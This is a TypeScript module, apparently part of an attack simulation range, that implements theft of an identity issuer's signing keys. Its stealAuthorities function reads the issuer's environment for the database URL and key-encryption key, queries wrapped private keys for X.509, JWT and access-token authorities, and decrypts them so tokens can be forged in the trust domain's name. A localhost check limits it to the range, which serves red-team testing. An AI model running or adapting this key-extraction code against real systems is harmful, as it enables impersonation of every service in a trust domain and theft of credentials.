import { createDecipheriv, createPrivateKey, type KeyObject } from 'node:crypto';
import { type Authority, openTokenAuthority, type TokenAuthority } from '@blastradius/pki';
import { Client } from 'pg';
import { z } from 'zod';
import { PlaceRefused } from '../../host/host.errors.ts';

/** What the issuer's process was started with, as far as it is of use to a thief. */
const environment = z.object({
  TRUST_DOMAIN: z.string(),
  DATABASE_URL: z.string(),
  KEY_ENCRYPTION_KEY: z.base64(),
  TOKEN_ENDPOINT_ISSUER: z.string().optional(),
});

const rows = z.array(
  z.object({
    id: z.string(),
    kind: z.enum(['x509', 'jwt', 'wit', 'access-token']),
    published: z.instanceof(Buffer),
    wrapped_key: z.instanceof(Buffer),
    not_after: z.date(),
    signs: z.boolean(),
  }),
);
const policies = z.array(z.object({ spiffeId: z.string() }));

/** Keys by which one may sign in the trust domain's name. */
export interface StolenAuthorities {
  readonly trustDomain: string;
  /** Of a token endpoint, where the issuer has one. */
  readonly tokenIssuer: string | undefined;
  /** Templates of the names that the issuer gives. */
  readonly spiffeIds: readonly string[];
  /** Those that sign now come first, then those that wait to. */
  readonly x509: readonly Authority[];
  readonly jwt: readonly TokenAuthority[];
  readonly wit: readonly TokenAuthority[];
  readonly accessToken: readonly TokenAuthority[];
}

/**
 * The issuer's keys lie in its database, wrapped; what unwraps them was given to its process at the start.
 * Whoever can read the process's environment has both.
 */
export async function stealAuthorities(variables: ReadonlyMap<string, string>): Promise<StolenAuthorities> {
  const found = environment.parse(Object.fromEntries(variables));
  const database = new Client({ connectionString: found.DATABASE_URL });
  assertOnThisMachine(database.host);
  await database.connect();
  try {
    const stored = await database.query(
      `select id, 'x509' as kind, certificate as published, wrapped_key, not_after, activated_at is not null as signs
         from issuer.authorities where wrapped_key is not null
       union all select id, kind, public_key, wrapped_key, not_after, activated_at is not null
         from issuer.token_authorities where wrapped_key is not null
       union all select id, 'access-token', public_key, wrapped_key, not_after, activated_at is not null
         from issuer.access_token_authorities where wrapped_key is not null
       order by signs desc`,
    );
    const registered = await database.query<{ policies: unknown }>(
      'select policies from issuer.trust_domain',
    );
    const keyEncryptionKey = Buffer.from(found.KEY_ENCRYPTION_KEY, 'base64');
    const keys = rows.parse(stored.rows).map((row) => ({
      ...row,
      privateKey: unwrap(row.wrapped_key, row.id, keyEncryptionKey),
    }));
    const tokenKeys = (kind: string) =>
      keys
        .filter((key) => key.kind === kind)
        .map(({ published, privateKey, not_after }) => openTokenAuthority(published, privateKey, not_after));
    return {
      trustDomain: found.TRUST_DOMAIN,
      tokenIssuer: found.TOKEN_ENDPOINT_ISSUER,
      spiffeIds: policies.parse(registered.rows[0]?.policies).map(({ spiffeId }) => spiffeId),
      x509: keys
        .filter(({ kind }) => kind === 'x509')
        .map(({ published, privateKey }) => ({ certificate: new Uint8Array(published), privateKey })),
      jwt: tokenKeys('jwt'),
      wit: tokenKeys('wit'),
      accessToken: tokenKeys('access-token'),
    };
  } finally {
    await database.end();
  }
}

/** The issuer's own format: version, 12 bytes of IV, 16 of tag, then PKCS #8 by AES-256-GCM, bound to the id. */
export function unwrap(wrapped: Buffer, id: string, keyEncryptionKey: Buffer): KeyObject {
  const decipher = createDecipheriv('aes-256-gcm', keyEncryptionKey, wrapped.subarray(1, 13), {
    authTagLength: 16,
  })
    .setAAD(Buffer.from(id))
    .setAuthTag(wrapped.subarray(13, 29));
  const key = Buffer.concat([decipher.update(wrapped.subarray(29)), decipher.final()]);
  return createPrivateKey({ key, format: 'der', type: 'pkcs8' });
}

/** The range's databases are on this machine, behind a Unix socket or on loopback. */
export function assertOnThisMachine(host: string): void {
  if (host.startsWith('/') || /^(127\.\d+\.\d+\.\d+|::1|localhost)$/.test(host)) return;
  throw new PlaceRefused(`the database on ${host} is not on this machine`, {
    publicDetail: 'The attacker only attacks the range.',
  });
}
